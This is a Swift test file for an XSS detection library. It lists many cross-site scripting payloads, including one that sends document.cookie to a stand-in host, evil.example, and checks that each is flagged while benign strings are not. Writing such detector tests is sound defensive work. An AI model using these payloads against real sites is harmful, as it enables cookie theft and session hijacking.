import Testing

@testable import PalisadeDetect

@Suite struct XSSTests {
    @Test(arguments: [
        ("<script>alert(1)</script>", "xss.script_tag"),
        ("<img src=x onerror=alert(1)//", "xss.event_handler"),
        ("<svg/onload=alert(1)>", "xss.event_handler"),
        ("<a href=\"java\tscript:alert(1)\">x</a>", "xss.script_uri"),
        ("javascript:alert(document.cookie)", "xss.script_uri"),
        ("<iframe src=\"data:text/html,<script>alert(1)</script>\">", "xss.data_uri"),
        ("\" onmouseover=\"alert(1)", "xss.attribute_injection"),
        ("' autofocus onfocus=alert(1) x='", "xss.attribute_injection"),
        ("';alert(1)//", "xss.js_breakout"),
        ("${alert(1)}", "xss.template_injection"),
        ("<div style=\"width:expression(alert(1))\">", "xss.css_expression"),
        ("<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">", "xss.meta_refresh"),
        ("alert(document.cookie)", "xss.js_call"),
        ("document.location='//evil.example/?'+document.cookie", "xss.dom_sink"),
        ("<div ng-click=$event.view.alert(1)>x</div>", "xss.framework_binding"),
        ("<p style=\"x:expr/*c*/ession(alert(1))\">", "xss.css_expression"),
        ("{{constructor.constructor('alert(1)')()}}", "xss.template_injection"),
    ])
    func firesWithRule(_ value: String, _ rule: String) throws {
        let finding = try #require(XSSDetector.analyze(Array(value.utf8)[...]))
        #expect(finding.confidence >= Scoring.threshold(.default), "\(finding)")
        #expect(finding.rule == rule, "\(finding)")
    }

    @Test(arguments: [
        "a < b && c > d", "I <3 NY", "<p>Hello <b>John</b></p>", "<a href=\"https://example.com\">x</a>",
        "<img src=\"https://example.com/logo.png\" alt=\"Logo\">", "javascript: the good parts",
        "<a href=\"javascript:void(0)\">menu</a>", "**bold** [link](https://example.com)",
        "<script type=\"application/ld+json\">{\"@type\":\"Thing\"}</script>", "call alert(1) in the console",
        "the expression (a+b) is positive", "online=true", "${HOME}/bin", "{{name}}",
        "<iframe src=\"https://www.youtube.com/embed/x\"></iframe>",
    ])
    func quietOnBenign(_ value: String) {
        let confidence = XSSDetector.analyze(Array(value.utf8)[...])?.confidence ?? 0
        #expect(confidence < Scoring.threshold(.default), "\(value) → \(confidence)")
    }

    @Test func schemeReaderDecodesObfuscation() {
        for value in [
            "&#106;avascript:x()", "java\nscript:x()", "  JaVaScRiPt:x()", "javascript&colon;x()",
            "\u{1}javascript:x()",
        ] {
            let bytes = Array(value.utf8)
            #expect(XSSScanner.scheme(bytes[...], at: 0)?.0 == .javascript, "\(value)")
        }
        #expect(XSSScanner.scheme(Array("https://x".utf8)[...], at: 0) == nil)
    }

    @Test func callReader() {
        let value = Array("top['al'+'ert'](1)".utf8)
        let call = XSSScanner.call(value[...], at: 0)
        #expect(call?.sink == true)
        #expect(call?.arguments == true)
        #expect(XSSScanner.call(Array("hello world".utf8)[...], at: 0) == nil)
    }
}

extension XSSTests {
    @Test func explainListsEveryReading() {
        let lines = XSSDetector.explain(Array("\"><img src=x onerror=alert(1)>".utf8)[...])
        #expect(lines.count == 4)
        #expect(lines[0].contains("xss.event_handler"))
    }
}
